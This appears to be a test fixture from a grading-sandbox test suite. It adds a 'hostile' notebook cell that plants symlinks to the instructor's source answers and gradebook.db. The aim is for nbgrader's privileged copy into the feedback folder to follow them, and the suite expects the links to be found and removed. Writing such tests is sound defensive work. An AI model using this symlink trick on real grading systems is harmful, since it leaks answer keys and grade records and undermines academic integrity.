@@ -1,0 +1,20 @@
+# %% [markdown] expect={"lose": []} hostile={"log": ["removed the symlink answers.py", "removed the symlink gradebook_link"], "output": ["links made: 2"]}
+# Leaves symlinks in its folder that point at the source notebook and the gradebook, hoping
+# that nbgrader, copying the folder into feedback with the instructor's rights, follows them.
+# They are deleted after the kernel ends. Right answers otherwise.
+
+# %% replace="z_prime"
+import os
+
+_made = 0
+for _target, _link in [
+    ("../../../source/a2_dropout_cnn/a2_dropout_cnn.py", "answers.py"),
+    (os.path.abspath("../../../gradebook.db"), "gradebook_link"),
+]:
+    try:
+        os.symlink(_target, _link)
+        _made += 1
+    except OSError as _e:
+        print(type(_e).__name__, _e)
+print(f"links made: {_made}")
+Z_prime = conv_maxpool_concat(Z, W, S)
